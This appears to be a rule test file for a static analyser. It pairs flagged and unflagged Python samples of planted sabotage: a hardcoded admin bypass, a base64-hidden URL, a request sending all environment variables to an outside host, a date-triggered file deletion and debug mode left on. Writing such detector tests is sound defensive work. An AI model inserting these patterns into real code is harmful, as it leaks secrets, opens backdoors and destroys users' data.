import base64
import os
import socket
from datetime import date

import bottle
import requests


def is_admin(user):
    # ruleid: askfirst.python.planted-exception
    if user.email == "support@vendor.example":
        return True
    # ok: askfirst.python.planted-exception
    return user.role == "admin"


def address():
    # ruleid: askfirst.python.words-hidden
    return base64.b64decode("aHR0cHM6Ly9leGFtcGxlLm9yZw==").decode()


def plain():
    # ok: askfirst.python.words-hidden
    return base64.b64decode(plain).decode()


def tell():
    # ruleid: askfirst.python.quiet-sending
    requests.post("https://stats.example", json=dict(os.environ), timeout=5)
    # ok: askfirst.python.quiet-sending
    requests.post("https://stats.example", json={"version": 3}, timeout=5)


def clean(path):
    # ruleid: askfirst.python.day-awaited
    if date.today() > date(2027, 3, 1):
        path.unlink()
    # ok: askfirst.python.day-awaited
    if path.age > 30:
        path.unlink()


# ruleid: askfirst.python.debug-left-on
bottle.debug(True)
# ok: askfirst.python.debug-left-on
bottle.debug(False)
